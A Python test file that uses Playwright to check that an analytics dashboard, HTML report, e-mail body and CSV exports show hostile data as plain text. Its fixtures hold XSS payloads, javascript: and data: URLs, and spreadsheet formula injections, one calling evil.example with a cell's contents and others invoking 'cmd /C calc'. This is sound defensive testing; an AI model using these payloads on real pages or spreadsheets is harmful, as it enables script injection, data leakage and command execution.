"""What others wrote (headlines, names of products and places) stays text: page, report, files."""

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from include.insights.block import Context
from include.insights.page import MAKERS
from include.insights.period import period_of
from include.insights.report import mail_body, render
from include.insights.snapshot import latest
from include.settings import Settings
from tests.browser import chromium
from tests.insights.server import served
from tests.insights.snapshots import TABLES, WRITTEN, Rows, _node, write_snapshot

SCRIPTS = [
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    "<img src=x onerror='window.pwned = 3'>",
    '"><svg onload="window.pwned = 4">',
    "{{ 7 * 191 }}{% raw %}",
    "</title></style><iframe srcdoc='<script>parent.pwned = 5</script>'></iframe>",
    "{red|rich}\u2028<b>bold</b>",
    "]]><!--<script>window.pwned = 6</script>-->",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1,"prize")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
]
ADDRESSES = [
    'https://news.example.org/"onmouseover="window.pwned=10',
    "javascript:window.pwned=7",
    " JavaScript:window.pwned=8",
    "data:text/html,<script>window.pwned=9</script>",
    "vbscript:msgbox(1)",
]
TEXTS = [*SCRIPTS, *FORMULAS]


def poisoned(table: str, *columns: str) -> Rows:
    """Return a table's rows with these columns replaced, one payload a row and no two rows alike."""
    rows = [dict(row) for row in TABLES[table]()]
    for place, row in enumerate(rows):
        for column in columns:
            if isinstance(row[column], str):
                row[column] = TEXTS[place % len(TEXTS)] + " " * (place // len(TEXTS))
    return rows


def write(folder: Path) -> str:
    news = [
        {
            **TABLES["news_latest"]()[0],
            "headline": text,
            "source_name": text,
            "url": ADDRESSES[place % len(ADDRESSES)],
            "published_at": WRITTEN - timedelta(minutes=place),
        }
        for place, text in enumerate(TEXTS)
    ]
    return write_snapshot(
        folder,
        news_latest=news,
        fct_category_monthly=poisoned("fct_category_monthly", "category"),
        fct_coupon_effect=poisoned("fct_coupon_effect", "category"),
        fct_product_abc=poisoned("fct_product_abc", "item", "category"),
        fct_basket_affinity=poisoned("fct_basket_affinity", "item_a", "item_b"),
        fct_location_performance=poisoned("fct_location_performance", "location", "location_kind"),
        fct_at_risk_customers=poisoned(
            "fct_at_risk_customers", "segment_name", "lifecycle_stage", "next_best_action"
        ),
        customers=poisoned("customers", "location", "segment_name", "next_best_action"),
        segments=poisoned("segments", "segment_name", "next_best_action"),
        quarantine_summary=poisoned("quarantine_summary", "reason"),
        model_gate=poisoned("model_gate", "failed_checks"),
        node_health=[_node(text, has_failed_last=True) for text in TEXTS],
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> str:
    return write(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def context(hostile: str) -> Context:
    one = latest(hostile)
    return Context(one, period_of({}, one.first_day, one.last_day), whole=True)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as one:
        yield one


def watched(browser: Browser) -> tuple[Page, list[str]]:
    page = browser.new_page()
    seen: list[str] = []
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("console", lambda said: seen.append(said.text) if said.type == "error" else None)
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    page.on("request", lambda request: seen.append(request.url) if "evil" in request.url else None)
    return page, seen


def assert_harmless(page: Page, seen: list[str]) -> None:
    expect(page.locator("[data-chart] svg").first).to_be_visible()
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    for chart in page.locator("[data-chart]").all():  # tooltips, too, are made of what data holds
        chart.hover(force=True)
    assert page.evaluate("window.pwned") is None
    assert (
        page.evaluate("document.querySelectorAll('article img, article iframe, article svg [onload]').length")
        == 0
    )
    assert (
        page.evaluate("[...document.querySelectorAll('*')].some((one) => one.hasAttribute('onerror'))")
        is False
    )
    assert seen == []
    news = page.locator("#news tbody tr")
    assert news.first.locator("td").nth(1).inner_text() in TEXTS
    assert "1337" not in page.content()
    links = page.locator("#news tbody a").evaluate_all("(all) => all.map((one) => one.getAttribute('href'))")
    assert links
    assert all(link.startswith("https://news.example.org/") for link in links)
    for attribute in ("noopener", "noreferrer"):
        assert attribute in str(page.locator("#news tbody a").first.get_attribute("rel"))


def test_the_page_shows_it_as_text(browser: Browser, hostile: str, tmp_path: Path) -> None:
    settings = Settings(insights_location=hostile, local_dir=tmp_path, duckdb_path=tmp_path / "none")
    with served(settings) as address:
        page, seen = watched(browser)
        page.goto(address)
        assert_harmless(page, seen)
        expect(page.locator("#places svg text", has_text="<script>").first).to_be_attached()
        page.close()


def test_the_report_shows_it_as_text(browser: Browser, context: Context, tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    file.write_text(render(context), encoding="utf-8")
    page, seen = watched(browser)
    page.goto(file.as_uri())
    assert_harmless(page, seen)
    page.close()


def test_the_e_mail_has_it_as_text(browser: Browser, context: Context) -> None:
    body = mail_body(context)
    page, seen = watched(browser)
    page.set_content(body)
    assert page.evaluate("window.pwned") is None
    assert page.locator("script, img, iframe, svg, style, link").count() == 0
    assert page.get_by_text("window.pwned").count() > 0, "the payload is there, as text"
    assert seen == []
    page.close()


@pytest.mark.parametrize("key", MAKERS)
def test_no_cell_of_a_file_is_run_by_a_spreadsheet(context: Context, key: str) -> None:
    for row in csv.reader(io.StringIO(MAKERS[key](context).csv(), newline="")):
        for cell in row:
            assert not any(cell.startswith(text[:6]) for text in FORMULAS)


@pytest.mark.parametrize("name", ["period", "first", "last", "compare"])
def test_an_address_cannot_bring_a_script(hostile: str, browser: Browser, tmp_path: Path, name: str) -> None:
    settings: Any = Settings(insights_location=hostile, local_dir=tmp_path, duckdb_path=tmp_path / "none")
    with served(settings) as address:
        page, seen = watched(browser)
        query = {
            "period": "custom",
            "first": "2019-01-01",
            "last": "2019-02-01",
            name: "<script>pwned=1</script>",
        }
        page.goto(address + "?" + "&".join(f"{key}={value}" for key, value in query.items()))
        assert page.evaluate("window.pwned") is None
        assert [one for one in seen if "400" not in one] == []
        page.close()
